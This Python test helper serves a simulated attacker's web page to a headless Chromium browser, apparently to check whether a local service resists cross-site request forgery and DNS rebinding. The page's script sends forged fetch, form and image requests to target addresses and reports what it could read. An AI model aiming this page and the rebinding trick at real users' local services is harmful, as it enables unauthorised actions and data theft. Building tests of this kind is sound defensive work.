"""A page of somebody who wishes ill, in a real browser that its visitor runs on this machine."""

import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import NamedTuple

import pytest

BROWSERS = ("chromium-headless-shell", "chromium", "chromium-browser", "google-chrome")
REBOUND = "rebound.example"
"""A name of the attacker's, which the browser is made to look up as this machine's address."""
REPORT_SECONDS_MAX = 120
_PAGE = """<!doctype html><title>harmless</title><iframe name="frame"></iframe><script>
const attacks = %s, targets = %s;
const simple = {"Content-Type": "text/plain"};
async function attempt(target, [name, method, path, body, headers]) {
  const found = [];
  for (const mode of ["no-cors", "cors"]) {
    const sent = {method, mode, headers: mode === "cors" ? headers : simple};
    if (method !== "GET") sent.body = body;
    try {
      const answer = await fetch(target + path, sent);
      found.push(mode === "cors" ? `${answer.status} ${await answer.text()}` : "sent");
    } catch (error) { found.push("blocked"); }
  }
  const form = document.createElement("form");
  Object.assign(form, {method: "post", enctype: "text/plain", action: target + path, target: "frame"});
  document.body.append(form);
  form.submit();
  const image = document.createElement("img");
  const loaded = new Promise(done => { image.onload = image.onerror = done; });
  image.src = target + path;
  document.body.append(image);
  await loaded;
  return [target, name, ...found];
}
window.onload = async () => {
  const results = [];
  for (const target of targets) for (const attack of attacks) results.push(await attempt(target, attack));
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
};
</script>"""


class Attack(NamedTuple):
    """One request that the page sends: as a form, as an image, and by scripts with and without asking first."""

    name: str
    method: str
    path: str
    body: str
    headers: Mapping[str, str]


class Result(NamedTuple):
    """What became of an attack by scripts: `read` is what the page was let to read."""

    target: str
    name: str
    unasked: str
    read: str


def browser() -> str:
    """A browser. Without one the test is skipped, and says how to get it."""
    found = next(filter(None, map(shutil.which, BROWSERS)), None)
    if found is None:
        pytest.skip("NOT TESTED in a browser: there is none; apt-get install chromium-headless-shell")
    return found


def visit(origin: str, targets: Sequence[str], attacks: Sequence[Attack], folder: Path) -> list[Result]:
    """Have the page be visited under a name of this machine or REBOUND; what it could do to the targets."""
    page = (_PAGE % (json.dumps(attacks), json.dumps(targets))).encode()
    # With a port to be debugged by it stays open until it is ended.
    options = [*_command(folder), "--remote-debugging-port=0"]
    with (
        _serving(page) as (port, reports),
        _running([*options, f"http://{origin}:{port}/"], subprocess.DEVNULL),
    ):
        return [Result(*one) for one in reports.get(timeout=REPORT_SECONDS_MAX)]


def look_at(url: str, folder: Path) -> str:
    """The page that the browser shows when it is led to an address."""
    with _running([*_command(folder), "--dump-dom", url], subprocess.PIPE) as process:
        shown, _ = process.communicate(timeout=REPORT_SECONDS_MAX)
    return shown.decode()


@contextmanager
def _serving(page: bytes) -> Iterator[tuple[int, "queue.Queue[list[list[str]]]"]]:
    reports: queue.Queue[list[list[str]]] = queue.Queue()

    class Attacker(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._answer(page)

        def do_POST(self) -> None:
            reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")

        def log_message(self, *_: object) -> None:
            """Say nothing."""

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    with ThreadingHTTPServer(("127.0.0.1", 0), Attacker) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port, reports
        finally:
            server.shutdown()
            thread.join()


@contextmanager
def _running(command: Sequence[str], output: int) -> Iterator["subprocess.Popen[bytes]"]:
    """A browser, which ends with all the processes that it has started."""
    process = subprocess.Popen(command, stdout=output, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        yield process
    finally:
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait()


def _command(folder: Path) -> list[str]:
    return [
        browser(),
        "--headless",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--no-sandbox",  # root, as in a container, has none
        f"--user-data-dir={folder / 'browser'}",
        f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1",
    ]
